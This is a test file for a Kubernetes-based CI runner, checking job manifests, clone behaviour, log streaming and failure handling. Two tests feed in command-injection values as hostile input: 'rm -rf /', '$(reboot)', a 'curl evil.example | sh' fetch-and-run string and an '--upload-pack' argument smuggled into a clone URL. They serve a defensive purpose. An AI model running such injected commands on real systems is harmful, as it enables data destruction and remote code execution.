import { KubeConfig, type V1Container, type V1Job } from '@kubernetes/client-node';
import { Job } from 'kubernetes-models/batch/v1/Job';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { forgeRepository } from '../../test/git-forge';
import { KubernetesStandIn } from '../../test/kubernetes-stand-in';
import type { ExecutableJob, ExecutionResult } from './executor';
import { buildJobManifest, type JobManifestOptions } from './job-manifest';
import { KubernetesApi } from './kubernetes-api';
import { KubernetesExecutor, type KubernetesExecutorOptions } from './kubernetes-executor';
import type { LogLine, LogSink } from './log-batcher';
import { encodePodOutput, type PodOutput } from './pod-pipeline';

class RecordingSink implements LogSink {
  readonly batches: LogLine[][] = [];
  constructor(private readonly onLines: (lines: LogLine[]) => void = () => undefined) {}
  async write(lines: LogLine[]): Promise<void> {
    this.batches.push(lines);
    this.onLines(lines);
  }
  get lines(): string[] {
    return this.batches.flat().map((l) => `${l.stream}${l.step ? `[${l.step}]` : ''}:${l.text}`);
  }
}

const JOB: ExecutableJob = {
  id: '0f8fad5b-d9cb-469f-a165-70867728950e',
  forge: 'gitea',
  event: 'push',
  repository: 'team/app',
  clone_url: 'https://gitea.example.com/team/app.git',
  ref: 'refs/heads/main',
  ref_kind: 'branch',
  branch: 'main',
  sha: 'ef98532add3b2feb7a137426bba1248724367df5',
  author: 'gordon',
};

const MANIFEST_OPTIONS: JobManifestOptions = {
  namespace: 'ci',
  runnerImage: 'slipway/ci-jobs:0.1.0',
  gitImage: 'alpine/git:v2.47.2',
  cpu: '2',
  memory: '4Gi',
  deadlineSeconds: 3600,
  ttlSecondsAfterFinished: 600,
  killGraceMs: 10_000,
};

const out = (output: PodOutput): string => encodePodOutput(output).trimEnd();

function allContainers(job: V1Job): V1Container[] {
  const pod = job.spec?.template.spec;
  return [...(pod?.initContainers ?? []), ...(pod?.containers ?? [])];
}

describe('buildJobManifest', () => {
  it('is a valid batch/v1 Job: one try, a deadline, 2 CPU / 4Gi, non-root, nothing to escalate', () => {
    const manifest = buildJobManifest(JOB, MANIFEST_OPTIONS);
    const plain: unknown = JSON.parse(JSON.stringify(manifest));
    expect(Job.is(plain)).toBe(true);
    if (Job.is(plain)) expect(() => new Job(plain).validate()).not.toThrow();

    expect(manifest.metadata).toMatchObject({ name: `ci-${JOB.id}`, namespace: 'ci' });
    expect(manifest.metadata?.name).toMatch(/^[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?$/);
    expect(manifest.metadata?.labels).toMatchObject({
      'app.kubernetes.io/name': 'ci-job',
      'app.kubernetes.io/part-of': 'slipway',
      'app.kubernetes.io/managed-by': 'ci-runner',
      'slipway.dev/job-id': JOB.id,
    });
    expect(manifest.spec).toMatchObject({
      backoffLimit: 0,
      activeDeadlineSeconds: 3600,
      ttlSecondsAfterFinished: 600,
    });
    const pod = manifest.spec?.template.spec;
    expect(pod).toMatchObject({
      restartPolicy: 'Never',
      automountServiceAccountToken: false,
      terminationGracePeriodSeconds: 10,
      securityContext: { runAsNonRoot: true, runAsUser: 1000 },
    });
    expect(manifest.spec?.template.metadata?.labels).toEqual(manifest.metadata?.labels);
    expect(pod?.initContainers?.map((c) => c.name)).toEqual(['clone']);
    expect(pod?.containers.map((c) => c.name)).toEqual(['run']);
    expect(pod?.initContainers?.[0].image).toBe('alpine/git:v2.47.2');
    expect(pod?.containers[0].image).toBe('slipway/ci-jobs:0.1.0');
    expect(pod?.containers[0].command).toEqual(['node', '/app/runner.js', 'run-pipeline', '/workspace/src']);
    for (const container of allContainers(manifest)) {
      expect(container.resources).toEqual({
        requests: { cpu: '2', memory: '4Gi' },
        limits: { cpu: '2', memory: '4Gi' },
      });
      expect(container.securityContext).toEqual({
        runAsNonRoot: true,
        allowPrivilegeEscalation: false,
        readOnlyRootFilesystem: true,
        capabilities: { drop: ['ALL'] },
      });
      expect(container.volumeMounts?.map((m) => m.mountPath)).toEqual(['/workspace', '/tmp']);
    }
    expect(pod?.volumes?.every((v) => v.emptyDir !== undefined)).toBe(true);
  });

  it('takes its resources and service account from the options', () => {
    const manifest = buildJobManifest(JOB, {
      ...MANIFEST_OPTIONS,
      cpu: '500m',
      memory: '1Gi',
      serviceAccount: 'ci-builds',
    });
    expect(manifest.spec?.template.spec).toMatchObject({
      serviceAccountName: 'ci-builds',
      automountServiceAccountToken: true,
    });
    for (const container of allContainers(manifest))
      expect(container.resources?.limits).toEqual({ cpu: '500m', memory: '1Gi' });
  });

  it('carries webhook values only as environment values, never in a command', () => {
    const hostile = {
      ...JOB,
      clone_url: 'https://x/$(reboot).git',
      ref: 'main; rm -rf /',
      repository: 'team/`id`',
      branch: '$(reboot)',
      author: '"; curl evil.example | sh; echo "',
    };
    const manifest = buildJobManifest(hostile, MANIFEST_OPTIONS);
    const commandText = allContainers(manifest)
      .flatMap((c) => [...(c.command ?? []), ...(c.args ?? [])])
      .join('\n');
    for (const value of ['$(reboot)', 'rm -rf', '`id`', 'curl evil'])
      expect(commandText).not.toContain(value);
    const [clone] = manifest.spec?.template.spec?.initContainers ?? [];
    const [run] = manifest.spec?.template.spec?.containers ?? [];
    const envOf = (c: V1Container | undefined) =>
      Object.fromEntries((c?.env ?? []).map((e) => [e.name, e.value]));
    expect(envOf(clone)).toMatchObject({
      CLONE_URL: hostile.clone_url,
      CLONE_REF: hostile.ref,
      CLONE_SHA: hostile.sha,
    });
    expect(envOf(run)).toMatchObject({
      CI_REPOSITORY: hostile.repository,
      CI_COMMIT_REF: hostile.ref,
      CI_COMMIT_BRANCH: hostile.branch,
      CI_COMMIT_AUTHOR: hostile.author,
      SLIPWAY_JOB_ID: JOB.id,
    });
    expect(JSON.stringify(manifest.metadata)).not.toContain('reboot');
  });
});

describe('the clone container of the manifest (its script run with sh and real git)', () => {
  const root = mkdtempSync(join(tmpdir(), 'slipway-clone-'));
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  /** Runs the init container's command in a stand-in for its working directory, with its env only. */
  const runClone = (job: ExecutableJob): { workspace: string; output: string } => {
    const manifest = buildJobManifest(job, MANIFEST_OPTIONS);
    const [clone] = manifest.spec?.template.spec?.initContainers ?? [];
    const [command, ...args] = clone?.command ?? [];
    const workspace = mkdtempSync(join(root, 'workspace-'));
    const env = Object.fromEntries((clone?.env ?? []).map((e) => [e.name, e.value ?? '']));
    const output = execFileSync(command, args, {
      cwd: workspace,
      env: { PATH: process.env.PATH, ...env, HOME: workspace },
      encoding: 'utf8',
    });
    return { workspace, output };
  };

  it('checks out the commit into src, where the run container works', () => {
    const repo = forgeRepository(root, { '.slipway/ci.yml': 'steps: []\n' });
    const job = { ...JOB, clone_url: repo.url, sha: repo.sha };
    const { workspace, output } = runClone(job);
    expect(output.trim()).toBe(`checked out ${repo.sha}`);
    const src = join(workspace, 'src');
    expect(readFileSync(join(src, '.slipway/ci.yml'), 'utf8')).toBe('steps: []\n');
    expect(execFileSync('git', ['rev-parse', 'HEAD'], { cwd: src, encoding: 'utf8' }).trim()).toBe(repo.sha);
    const pod = buildJobManifest(job, MANIFEST_OPTIONS).spec?.template.spec;
    expect(pod?.containers[0].workingDir).toBe(`${pod?.initContainers?.[0].workingDir}/src`);
  });

  it('checks out the head of the ref when the job has no commit', () => {
    const repo = forgeRepository(root, { 'README.md': 'x' });
    const { workspace } = runClone({ ...JOB, clone_url: repo.url, sha: undefined });
    const head = execFileSync('git', ['rev-parse', 'HEAD'], {
      cwd: join(workspace, 'src'),
      encoding: 'utf8',
    });
    expect(head.trim()).toBe(repo.sha);
  });
});

describe('KubernetesExecutor against a stand-in Kubernetes API', () => {
  let standIn: KubernetesStandIn;
  let executor: KubernetesExecutor;
  const options: KubernetesExecutorOptions = {
    ...MANIFEST_OPTIONS,
    keepJobs: false,
    batchIntervalMs: 20,
    logDrainMs: 2000,
  };

  const executorFor = (url: string, overrides: Partial<KubernetesExecutorOptions> = {}) => {
    const kubeConfig = new KubeConfig();
    kubeConfig.loadFromOptions({
      clusters: [{ name: 'stand-in', server: url, skipTLSVerify: true }],
      users: [{ name: 'ci-runner', token: 'stand-in-token' }],
      contexts: [{ name: 'stand-in', cluster: 'stand-in', user: 'ci-runner', namespace: 'ci' }],
      currentContext: 'stand-in',
    });
    return new KubernetesExecutor(new KubernetesApi(kubeConfig, 'ci', 20), { ...options, ...overrides });
  };

  const run = async (job: ExecutableJob, sink: LogSink, signal = new AbortController().signal) => {
    const result = await executor.run(job, sink, signal);
    await standIn.played;
    return result;
  };

  const deletes = () =>
    standIn.requestsOf('DELETE', '/jobs/').map((r) => ({
      path: r.path,
      propagationPolicy: r.query.get('propagationPolicy'),
      gracePeriodSeconds: r.query.get('gracePeriodSeconds'),
    }));
  const deletedJob = [
    {
      path: `/apis/batch/v1/namespaces/ci/jobs/ci-${JOB.id}`,
      propagationPolicy: 'Foreground',
      gracePeriodSeconds: '10',
    },
  ];

  beforeEach(async () => {
    standIn = new KubernetesStandIn();
    executor = executorFor(await standIn.start());
  });

  afterEach(async () => {
    await standIn.stop();
  });

  it('creates the Job, streams the clone and the steps in order, succeeds and deletes the Job', async () => {
    standIn.scenario = async () => {
      standIn.setPod('Pending', { clone: 'running', run: { waiting: 'PodInitializing' } });
      await standIn.followed('clone');
      standIn.writeLog('clone', `checked out ${JOB.sha}`);
      standIn.endLog('clone');
      standIn.setPod('Running', { clone: { exit: 0 }, run: 'running' });
      await standIn.followed('run');
      standIn.writeLog(
        'run',
        out({ line: { stream: 'system', step: 'build', text: '▶ build' } }),
        out({ line: { stream: 'stdout', step: 'build', text: 'compiling' } }),
        'a line outside the protocol',
        out({ line: { stream: 'system', step: 'test', text: '▶ test' } }),
        out({ line: { stream: 'stderr', step: 'test', text: 'warning: slow' } }),
        out({ line: { stream: 'system', text: '✓ 2 steps passed' } }),
        out({
          result: {
            status: 'success',
            exit_code: 0,
            steps: [
              { name: 'build', exit_code: 0, duration_ms: 40, timed_out: false },
              { name: 'test', exit_code: 0, duration_ms: 70, timed_out: false },
            ],
          },
        }),
      );
      standIn.endLog('run');
      standIn.setPod('Succeeded', { clone: { exit: 0 }, run: { exit: 0 } });
      standIn.finishJob({ type: 'Complete' });
    };
    const sink = new RecordingSink();
    const result = await run(JOB, sink);

    expect(result).toEqual({
      status: 'success',
      exit_code: 0,
      steps: [
        { name: 'build', exit_code: 0, duration_ms: 40, timed_out: false },
        { name: 'test', exit_code: 0, duration_ms: 70, timed_out: false },
      ],
    });
    expect(sink.lines).toEqual([
      `system:cloning team/app at ${JOB.sha} in Kubernetes Job ci/ci-${JOB.id}`,
      `system:git: checked out ${JOB.sha}`,
      'system[build]:▶ build',
      'stdout[build]:compiling',
      'stdout:a line outside the protocol',
      'system[test]:▶ test',
      'stderr[test]:warning: slow',
      'system:✓ 2 steps passed',
    ]);
    expect(standIn.created).toEqual([JSON.parse(JSON.stringify(buildJobManifest(JOB, MANIFEST_OPTIONS)))]);
    expect(standIn.requests.every((r) => r.authorization === 'Bearer stand-in-token')).toBe(true);
    expect(deletes()).toEqual(deletedJob);
  });

  it('reports a failing step as failed with its exit code, and memory exhaustion by name', async () => {
    standIn.scenario = async () => {
      standIn.setPod('Running', { clone: { exit: 0 }, run: 'running' });
      await standIn.followed('run');
      standIn.writeLog(
        'run',
        out({ line: { stream: 'system', step: 'test', text: '▶ test' } }),
        out({ line: { stream: 'system', step: 'test', text: '✗ test exited with 3' } }),
        out({
          result: {
            status: 'failed',
            exit_code: 3,
            reason: 'test exited with 3',
            steps: [{ name: 'test', exit_code: 3, duration_ms: 12, timed_out: false }],
          },
        }),
      );
      standIn.endLog('run');
      standIn.setPod('Failed', { clone: { exit: 0 }, run: { exit: 3 } });
      standIn.finishJob({
        type: 'Failed',
        reason: 'BackoffLimitExceeded',
        message: 'Job has reached the specified backoff limit',
      });
    };
    const sink = new RecordingSink();
    expect(await run(JOB, sink)).toEqual({
      status: 'failed',
      exit_code: 3,
      reason: 'test exited with 3',
      steps: [{ name: 'test', exit_code: 3, duration_ms: 12, timed_out: false }],
    });
    expect(sink.lines.filter((l) => l.includes('exited with 3'))).toEqual([
      'system[test]:✗ test exited with 3',
    ]);

    standIn.scenario = async () => {
      standIn.setPod('Running', { clone: { exit: 0 }, run: 'running' });
      await standIn.followed('run');
      standIn.writeLog('run', out({ line: { stream: 'system', step: 'build', text: '▶ build' } }));
      standIn.endLog('run');
      standIn.setPod('Failed', { clone: { exit: 0 }, run: { exit: 137, reason: 'OOMKilled' } });
      standIn.finishJob({ type: 'Failed', reason: 'BackoffLimitExceeded' });
    };
    const oom = new RecordingSink();
    expect(await run(JOB, oom)).toEqual({
      status: 'failed',
      exit_code: 137,
      reason: 'build ran out of memory (limit 4Gi)',
      steps: [],
    });
    expect(oom.lines.at(-1)).toBe('system:build ran out of memory (limit 4Gi)');
  });

  it('deletes the Job in the foreground with the kill grace when cancelled', async () => {
    standIn.scenario = async () => {
      standIn.setPod('Running', { clone: { exit: 0 }, run: 'running' });
      await standIn.followed('run');
      standIn.writeLog(
        'run',
        out({ line: { stream: 'system', step: 'long', text: '▶ long' } }),
        out({ line: { stream: 'stdout', step: 'long', text: 'started' } }),
      );
    };
    const cancel = new AbortController();
    const sink = new RecordingSink((lines) => {
      if (lines.some((l) => l.text === 'started')) cancel.abort();
    });
    const result = await run(JOB, sink, cancel.signal);
    expect(result).toEqual({
      status: 'cancelled',
      exit_code: null,
      reason: 'cancelled during long',
      steps: [],
    });
    expect(deletes()).toEqual(deletedJob);
  });

  it('ends in error when an image cannot be pulled, and deletes the stuck Job', async () => {
    standIn.scenario = async () => {
      standIn.setPod('Pending', {
        clone: { exit: 0 },
        run: { waiting: 'ImagePullBackOff', message: 'Back-off pulling image "slipway/ci-jobs:0.1.0"' },
      });
    };
    const sink = new RecordingSink();
    const result = await run(JOB, sink);
    expect(result).toEqual({
      status: 'error',
      exit_code: null,
      reason: 'run cannot start: ImagePullBackOff (Back-off pulling image "slipway/ci-jobs:0.1.0")',
      steps: [],
    });
    expect(sink.lines.at(-1)).toBe(`system:${result.reason}`);
    expect(deletes()).toEqual(deletedJob);
  });

  it('ends in error when the Job runs past its deadline or the checkout fails', async () => {
    standIn.scenario = async () => {
      standIn.setPod('Running', { clone: { exit: 0 }, run: 'running' });
      await standIn.followed('run');
      standIn.setPod('Failed', { clone: { exit: 0 }, run: { exit: 143 } });
      standIn.finishJob({
        type: 'Failed',
        reason: 'DeadlineExceeded',
        message: 'Job was active longer than specified deadline',
      });
    };
    expect(await run(JOB, new RecordingSink())).toEqual({
      status: 'error',
      exit_code: null,
      reason: 'the Job ran past its deadline of 3600 s',
      steps: [],
    });

    standIn.scenario = async () => {
      standIn.setPod('Pending', { clone: 'running', run: { waiting: 'PodInitializing' } });
      await standIn.followed('clone');
      standIn.writeLog('clone', "fatal: couldn't find remote ref refs/heads/main");
      standIn.endLog('clone');
      standIn.setPod('Failed', { clone: { exit: 128 }, run: { waiting: 'PodInitializing' } });
      standIn.finishJob({ type: 'Failed', reason: 'BackoffLimitExceeded' });
    };
    const sink = new RecordingSink();
    const result: ExecutionResult = await run(JOB, sink);
    expect(result).toEqual({
      status: 'error',
      exit_code: 128,
      reason: 'checkout failed (git exited with 128)',
      steps: [],
    });
    expect(sink.lines).toContain("system:git: fatal: couldn't find remote ref refs/heads/main");
    expect(deletes()).toHaveLength(2);
  });

  it('opens a watch again when the server closes it', async () => {
    standIn.scenario = async () => {
      standIn.setPod('Succeeded', { clone: { exit: 0 }, run: { exit: 0 } });
      await standIn.watching('Job');
      standIn.closeWatches();
      // Nobody watches now: only a watch opened again sees the Job complete.
      standIn.finishJob({ type: 'Complete' });
    };
    expect(await run(JOB, new RecordingSink())).toMatchObject({ status: 'success', exit_code: 0 });
    const jobWatches = standIn.requestsOf('GET', '/jobs').filter((r) => r.query.get('watch') === 'true');
    expect(jobWatches.length).toBeGreaterThanOrEqual(2);
  });

  it('follows the Job an earlier attempt left, and keeps a finished Job when told to', async () => {
    const earlier = buildJobManifest(JOB, MANIFEST_OPTIONS);
    standIn.seedJob({ ...earlier, status: { conditions: [{ type: 'Complete', status: 'True' }] } });
    const keeping = executorFor(standIn.url, { keepJobs: true });
    const sink = new RecordingSink();
    expect(await keeping.run(JOB, sink, new AbortController().signal)).toEqual({
      status: 'success',
      exit_code: 0,
      steps: [],
    });
    expect(sink.lines).toContain('system:following the Job that an earlier attempt created');
    expect(standIn.requestsOf('POST', '/jobs')).toHaveLength(1);
    expect(deletes()).toEqual([]);
  });

  it('refuses a clone URL or ref git could misread before asking Kubernetes for anything', async () => {
    const sink = new RecordingSink();
    expect(await run({ ...JOB, ref: 'main; rm -rf /' }, sink)).toEqual({
      status: 'error',
      exit_code: null,
      reason: 'ref is not a plain git ref',
      steps: [],
    });
    expect(await run({ ...JOB, clone_url: '--upload-pack=touch /tmp/x' }, sink)).toMatchObject({
      status: 'error',
      reason: 'clone URL is not an http(s), ssh, git or file URL',
    });
    expect(standIn.requests).toEqual([]);
  });
});
